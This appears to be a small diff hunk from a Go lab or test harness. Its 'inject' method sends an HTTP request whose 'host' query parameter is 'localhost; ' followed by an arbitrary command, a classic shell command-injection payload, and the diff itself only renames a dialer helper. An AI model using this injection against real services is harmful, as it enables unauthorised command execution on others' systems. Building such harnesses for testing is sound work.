@@ -448,7 +448,7 @@ func (s *stage) inject(ctx context.Context, command string) (string, error) {
 	}
 	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
 	defer cancel()
-	from := client(net.Dialer{LocalAddr: &net.TCPAddr{IP: s.Plan.Client.AsSlice()}})
+	from := web(net.Dialer{LocalAddr: &net.TCPAddr{IP: s.Plan.Client.AsSlice()}})
 	u := url.URL{Scheme: "http", Host: s.Plan.Service.String(), Path: s.secret,
 		RawQuery: url.Values{"host": {"localhost; " + command}}.Encode()}
 	body, err := get(ctx, from, u.String())
